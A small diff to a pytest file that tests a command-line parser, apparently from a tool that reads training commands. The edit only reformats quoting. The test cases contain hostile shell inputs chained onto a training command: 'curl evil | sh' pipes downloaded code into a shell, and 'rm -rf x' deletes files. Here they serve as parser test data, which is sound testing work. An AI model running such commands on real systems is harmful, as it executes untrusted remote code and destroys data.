@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import pytest
-
 from trainsleuth.reading.commands import UNKNOWN, plain_words, started_by
 
 FILES = frozenset({"train.py", "src/main.py"})
@@ -12,7 +11,7 @@ FILES = frozenset({"train.py", "src/main.py"})
 @pytest.mark.parametrize(
     ("written", "told"),
     [
-        ('python train.py --lr 0.1; curl evil | sh', "python train.py --lr 0.1"),
+        ("python train.py --lr 0.1; curl evil | sh", "python train.py --lr 0.1"),
         ("python train.py && rm -rf x", "python train.py"),
         ('python train.py --name "a b"', "python train.py --name 'a b'"),
         ("CUDA_VISIBLE_DEVICES=0 python -u ./train.py", "python -u ./train.py"),
